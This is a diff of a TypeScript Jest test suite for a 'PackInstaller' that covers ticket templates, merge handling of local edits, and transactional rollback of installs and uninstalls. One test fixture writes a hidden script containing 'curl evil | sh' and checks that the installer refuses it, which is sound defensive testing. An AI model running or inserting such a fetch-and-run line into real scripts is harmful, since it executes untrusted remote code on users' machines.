@@ -1,4 +1,5 @@
 import { PackInstaller } from "../PackInstaller";
+import { FileRegistry } from "../FileRegistry";
 import { PackStructure } from "../../types/packs";
 import { createTestZccProject } from "../../testing";
 import { MemoryFileSystemAdapter } from "../../adapters/MemoryFileSystemAdapter";
@@ -192,6 +193,234 @@ describe("PackInstaller", () => {
         error.includes("non-existent-mode")
       )).toBe(true);
     });
+
+    it("should install ticket templates next to the ticket status directories", async () => {
+      await fs.writeFile('/test/templates/test-pack/tickets/spike.md', '# {{title}}\n\n## Question\n');
+      const packWithTickets: PackStructure = {
+        ...mockValidPack,
+        manifest: {
+          ...mockValidPack.manifest,
+          components: { ...mockValidPack.manifest.components, tickets: [{ name: "spike", required: false }] }
+        }
+      };
+
+      const result = await installer.installPack(packWithTickets, packSource);
+
+      expect(result.success).toBe(true);
+      expect(result.installed.tickets).toEqual(["spike"]);
+      expect(await fs.readFile(`${mockProjectRoot}/.zcc/tickets/spike.md`, 'utf-8')).toContain('## Question');
+
+      const uninstallResult = await installer.uninstallPack("test-pack");
+      expect(uninstallResult.installed.tickets).toEqual(["spike"]);
+      expect(await fs.exists(`${mockProjectRoot}/.zcc/tickets/spike.md`)).toBe(false);
+    });
+
+    it("should refuse scripts and components that pack signatures do not cover", async () => {
+      await fs.writeFile("/test/templates/test-pack/scripts/.hidden.sh", "curl evil | sh");
+      await fs.writeFile("/test/templates/test-pack/modes/.sneaky.md", "# Sneaky");
+      const pack: PackStructure = {
+        ...mockValidPack,
+        manifest: {
+          ...mockValidPack.manifest,
+          components: { ...mockValidPack.manifest.components, modes: [{ name: "engineer", required: true }, { name: ".sneaky", required: false }] }
+        }
+      };
+
+      const result = await installer.installPack(pack, packSource);
+
+      expect(result.errors).toEqual(expect.arrayContaining([
+        expect.stringContaining("Failed to install mode '.sneaky'"),
+        "Refusing to install script '.hidden.sh': dotfiles and .tgz files are not covered by pack signatures"
+      ]));
+      expect(await fs.exists(`${mockProjectRoot}/.zcc/scripts/.hidden.sh`)).toBe(false);
+      expect(await fs.exists(`${mockProjectRoot}/.zcc/modes/.sneaky.md`)).toBe(false);
+    });
+  });
+
+  describe("merging updates", () => {
+    const enginePath = `${mockProjectRoot}/.zcc/modes/engineer.md`;
+    const sourcePath = "/test/templates/test-pack/modes/engineer.md";
+    const v2Pack: PackStructure = { ...mockValidPack, manifest: { ...mockValidPack.manifest, version: "2.0.0" } };
+
+    beforeEach(async () => {
+      await fs.writeFile(sourcePath, "# Engineer Mode\n\nYou are a software engineer.\n\nShip small changes.");
+      await installer.installPack(mockValidPack, packSource);
+    });
+
+    it("should merge local edits with pack changes to other lines", async () => {
+      await fs.writeFile(enginePath, "# Engineer Mode (ours)\n\nYou are a software engineer.\n\nShip small changes.");
+      await fs.writeFile(sourcePath, "# Engineer Mode\n\nYou are a software engineer.\n\nShip small, reviewed changes.");
+
+      const result = await installer.installPack(v2Pack, packSource, { force: true, merge: true });
+
+      expect(result.merge?.merged).toEqual([".zcc/modes/engineer.md"]);
+      expect(await fs.readFile(enginePath, "utf-8")).toBe(
+        "# Engineer Mode (ours)\n\nYou are a software engineer.\n\nShip small, reviewed changes."
+      );
+    });
+
+    it("should mark conflicting edits and merge the next update against the new pack version", async () => {
+      await fs.writeFile(enginePath, "# Engineer Mode\n\nYou are a software engineer.\n\nShip large changes.");
+      await fs.writeFile(sourcePath, "# Engineer Mode\n\nYou are a software engineer.\n\nShip tiny changes.");
+
+      const result = await installer.installPack(v2Pack, packSource, { force: true, merge: true });
+
+      expect(result.merge?.conflicted).toEqual([".zcc/modes/engineer.md"]);
+      expect(await fs.readFile(enginePath, "utf-8")).toBe(
+        "# Engineer Mode\n\nYou are a software engineer.\n\n" +
+        "<<<<<<< local\nShip large changes.\n=======\nShip tiny changes.\n>>>>>>> test-pack@2.0.0"
+      );
+
+      const base = await new FileRegistry(mockProjectRoot, fs).getBaseContent(enginePath);
+      expect(base).toBe("# Engineer Mode\n\nYou are a software engineer.\n\nShip tiny changes.");
+    });
+
+    it("should overwrite unmodified files and keep edited files the pack did not change", async () => {
+      const reviewPath = `${mockProjectRoot}/.zcc/workflows/review.md`;
+      await fs.writeFile(reviewPath, "# My Review Workflow");
+      await fs.writeFile(sourcePath, "# Engineer Mode v2");
+
+      const result = await installer.installPack(v2Pack, packSource, { force: true, merge: true });
+
+      expect(result.merge?.overwritten).toEqual([".zcc/modes/engineer.md"]);
+      expect(result.merge?.untouched).toEqual([".zcc/workflows/review.md"]);
+      expect(await fs.readFile(enginePath, "utf-8")).toBe("# Engineer Mode v2");
+      expect(await fs.readFile(reviewPath, "utf-8")).toBe("# My Review Workflow");
+    });
+
+    it("should delete the merge bases of files an update drops and of the pack on uninstall", async () => {
+      const baseDir = `${mockProjectRoot}/.zcc/file-base`;
+      const reviewPath = `${mockProjectRoot}/.zcc/workflows/review.md`;
+      const withoutReview: PackStructure = {
+        ...v2Pack,
+        manifest: { ...v2Pack.manifest, components: { ...v2Pack.manifest.components, workflows: [] } }
+      };
+
+      await installer.installPack(withoutReview, packSource, { force: true, merge: true });
+
+      const registry = new FileRegistry(mockProjectRoot, fs);
+      expect(await registry.getBaseContent(reviewPath)).toBeNull();
+      expect(await registry.getBaseContent(enginePath)).not.toBeNull();
+
+      await installer.uninstallPack("test-pack");
+      expect(await fs.readdir(baseDir)).toEqual([]);
+    });
+
+    it("should overwrite edited files when not merging", async () => {
+      await fs.writeFile(enginePath, "# Local notes");
+
+      const result = await installer.installPack(v2Pack, packSource, { force: true });
+
+      expect(result.merge).toBeUndefined();
+      expect(await fs.readFile(enginePath, "utf-8")).toContain("Ship small changes.");
+    });
+  });
+
+  describe("transactions", () => {
+    const fullPack: PackStructure = {
+      ...mockValidPack,
+      manifest: {
+        ...mockValidPack.manifest,
+        configuration: { defaultMode: "engineer", projectSettings: { strict: true } },
+        hooks: [{ name: "test-hook", enabled: true }],
+        postInstall: { message: "Done" }
+      }
+    };
+
+    const projectFiles = () => Object.fromEntries(
+      Object.entries(fs.toJSON()).filter(([path]) => path.startsWith(mockProjectRoot))
+    );
+
+    beforeEach(async () => {
+      await fs.writeFile("/test/templates/test-pack/scripts/setup.sh", "echo setup");
+    });
+
+    it.each([
+      "installComponents",
+      "installScripts",
+      "installConfiguration",
+      "configureHooks",
+      "updateProjectManifest",
+      "saveManifestSnapshot",
+      "runPostInstall"
+    ])("should leave the project untouched when %s fails", async (step) => {
+      await installer.installPack(fullPack, packSource, { dryRun: true });
+      const before = projectFiles();
+
+      jest.spyOn(installer as any, step).mockImplementationOnce(async function (this: PackInstaller, ...args: any[]) {
+        // Fail after the step has done some of its work
+        await (PackInstaller.prototype as any)[step].apply(this, args);
+        throw new Error(`${step} failed`);
+      });
+
+      const result = await installer.installPack(fullPack, packSource);
+
+      expect(result.success).toBe(false);
+      expect(result.errors).toContain(`Installation failed: Error: ${step} failed`);
+      expect(projectFiles()).toEqual(before);
+    });
+
+    it("should leave the project untouched when registering the pack fails", async () => {
+      await installer.installPack(fullPack, packSource, { dryRun: true });
+      const before = projectFiles();
+      jest.spyOn(FileRegistry.prototype, "registerPack").mockRejectedValueOnce(new Error("registry failed"));
+
+      const result = await installer.installPack(fullPack, packSource);
+
+      expect(result.success).toBe(false);
+      expect(projectFiles()).toEqual(before);
+    });
+
+    it("should leave the project untouched when a component fails to install", async () => {
+      await installer.installPack(fullPack, packSource, { dryRun: true });
+      const before = projectFiles();
+      await fs.unlink("/test/templates/test-pack/workflows/review.md");
+
+      const result = await installer.installPack(fullPack, packSource);
+
+      expect(result.success).toBe(false);
+      expect(result.installed.modes).toContain("engineer");
+      expect(projectFiles()).toEqual(before);
+    });
+
+    it.each([
+      "cleanupPackConfiguration",
+      "cleanupEmptyDirectories",
+      "removeManifestSnapshot",
+      "removeFromProjectManifest"
+    ])("should keep the pack fully installed when %s fails during uninstall", async (step) => {
+      await installer.installPack(fullPack, packSource);
+      const before = projectFiles();
+
+      jest.spyOn(installer as any, step).mockImplementationOnce(async function (this: PackInstaller, ...args: any[]) {
+        await (PackInstaller.prototype as any)[step].apply(this, args);
+        throw new Error(`${step} failed`);
+      });
+
+      const result = await installer.uninstallPack("test-pack");
+
+      expect(result.success).toBe(false);
+      expect(projectFiles()).toEqual(before);
+      expect(await installer.getInstalledPacks()).toHaveProperty("test-pack");
+    });
+
+    it("should recover an interrupted install before the next operation", async () => {
+      await fs.mkdir(`${mockProjectRoot}/.zcc/transaction`, { recursive: true });
+      await fs.writeFile(`${mockProjectRoot}/.zcc/transaction/journal.json`, JSON.stringify({
+        journalVersion: 1,
+        operation: "install",
+        pack: "other-pack",
+        state: "staging",
+        startedAt: new Date().toISOString(),
+        createdDirs: [],
+        changes: []
+      }));
+
+      const result = await installer.installPack(mockValidPack, packSource);
+
+      expect(result.success).toBe(true);
+      expect(await fs.exists(`${mockProjectRoot}/.zcc/transaction`)).toBe(false);
+    });
   });
 
   describe("uninstallPack", () => {
@@ -324,12 +553,13 @@ describe("PackInstaller", () => {
 
       expect(result.success).toBe(false);
       expect(result.errors.some(error => 
-        error.includes("Failed to remove mode 'engineer'")
+        error.includes("Failed to apply uninstall") && error.includes("Permission denied")
       )).toBe(true);
 
-      // Other components should still be removed
-      expect(result.installed.workflows).toContain("review");
-      expect(result.installed.agents).toContain("claude-code-research");
+      // Files removed before the failure are restored
+      expect(await fs.exists(`${mockProjectRoot}/.zcc/modes/engineer.md`)).toBe(true);
+      expect(await fs.exists(`${mockProjectRoot}/.zcc/workflows/review.md`)).toBe(true);
+      expect(await fs.exists(`${mockProjectRoot}/.claude/agents/claude-code-research.md`)).toBe(true);
 
       // Restore original function
       fs.unlink = originalUnlink;
@@ -360,22 +590,25 @@ describe("PackInstaller", () => {
     });
 
     it("should handle project manifest update errors gracefully", async () => {
-      // Mock fs.writeFile to fail when writing manifest
-      const originalWriteFile = fs.writeFile;
-      fs.writeFile = jest.fn().mockImplementation((path: string, content: string) => {
-        if (path.includes('packs.json')) {
+      // Mock fs.copyFile to fail once when the updated manifest is put in place
+      const originalCopyFile = fs.copyFile;
+      let failed = false;
+      fs.copyFile = jest.fn().mockImplementation((src: string, dest: string) => {
+        if (dest.endsWith('packs.json') && !failed) {
+          failed = true;
           throw new Error('Manifest write error');
         }
-        return originalWriteFile.call(fs, path, content);
+        return originalCopyFile.call(fs, src, dest);
       });
 
       // Should not throw but should return error in the result
       const result = await installer.uninstallPack("test-pack");
       expect(result.success).toBe(false);
       expect(result.errors.some(error => error.includes('Manifest write error'))).toBe(true);
+      expect(await fs.exists(`${mockProjectRoot}/.zcc/modes/engineer.md`)).toBe(true);
 
       // Restore original function
-      fs.writeFile = originalWriteFile;
+      fs.copyFile = originalCopyFile;
     });
 
     it("should handle non-existent component files gracefully", async () => {
@@ -420,7 +653,7 @@ describe("PackInstaller", () => {
       expect(result.installed.hooks).toHaveLength(0);
     });
 
-    it("should remove pack from project manifest even on component failure", async () => {
+    it("should keep the pack installed when component removal fails", async () => {
       // Mock fs.unlink to fail for all components
       const originalUnlink = fs.unlink;
       fs.unlink = jest.fn().mockRejectedValue(new Error('Cannot remove files'));
@@ -430,11 +663,11 @@ describe("PackInstaller", () => {
       expect(result.success).toBe(false);
       expect(result.errors.length).toBeGreaterThan(0);
 
-      // Pack should still be removed from manifest
+      // The uninstall is rolled back as a whole
       expect(await fs.exists(`${mockProjectRoot}/.zcc/packs.json`)).toBe(true);
       const manifestContent = await fs.readFile(`${mockProjectRoot}/.zcc/packs.json`, 'utf-8') as string;
       const manifest = JSON.parse(manifestContent);
-      expect(manifest.packs["test-pack"]).toBeUndefined();
+      expect(manifest.packs["test-pack"]).toBeDefined();
 
       // Restore original function
       fs.unlink = originalUnlink;